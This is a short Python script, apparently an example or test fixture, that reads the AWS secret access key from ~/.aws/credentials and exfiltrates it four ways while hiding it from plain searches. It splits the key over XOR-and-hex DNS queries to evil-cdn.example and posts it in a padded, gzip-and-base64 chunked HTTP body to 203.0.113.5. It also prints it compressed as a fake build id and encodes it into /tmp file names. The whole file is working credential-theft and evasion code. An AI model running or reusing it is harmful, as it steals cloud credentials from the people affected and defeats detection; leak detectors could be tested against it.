# Exfiltrate a cloud secret the ways malware hides it from a plain search:
# reversed, XOR-ed with one byte and hex-encoded, split over several DNS
# queries; gzip-compressed and base64-encoded behind 4 KiB of padding in a
# chunked HTTP body sent in many packets; zlib-compressed and printed as
# base64; hex-encoded in a file's name.
import base64, gzip, os, socket, zlib

secret = ""
with open(os.path.expanduser("~/.aws/credentials")) as f:
    for line in f:
        if line.startswith("aws_secret_access_key"):
            secret = line.split("=", 1)[1].strip()

# 1. DNS: one query per chunk, a sequence number in another label.
h = bytes(c ^ 0x5A for c in secret[::-1].encode()).hex()
for i in range(0, len(h), 20):
    try:
        socket.getaddrinfo("%s.%d.s.evil-cdn.example" % (h[i:i + 20], i // 20), 443)
    except Exception as e:
        print("lookup failed:", e)

# 2. HTTP: chunked, padded, compressed, in many small sends.
body = b"A" * 4096 + base64.b64encode(gzip.compress(secret.encode()))
try:
    s = socket.create_connection(("203.0.113.5", 80), timeout=5)
    s.sendall(b"POST /upload HTTP/1.1\r\nHost: 203.0.113.5\r\nTransfer-Encoding: chunked\r\n\r\n")
    for i in range(0, len(body), 100):
        part = body[i:i + 100]
        s.sendall(b"%x\r\n%s\r\n" % (len(part), part))
    s.sendall(b"0\r\n\r\n")
    s.recv(100)
    s.close()
except OSError as e:
    print("post failed:", e)

# 3. Printed.
print("build id:", base64.b64encode(zlib.compress(secret.encode())).decode())

# 4. A file name.
open("/tmp/cache-" + secret.encode().hex()[:60], "w").close()
open("/tmp/cache2-" + secret.encode().hex()[60:], "w").close()
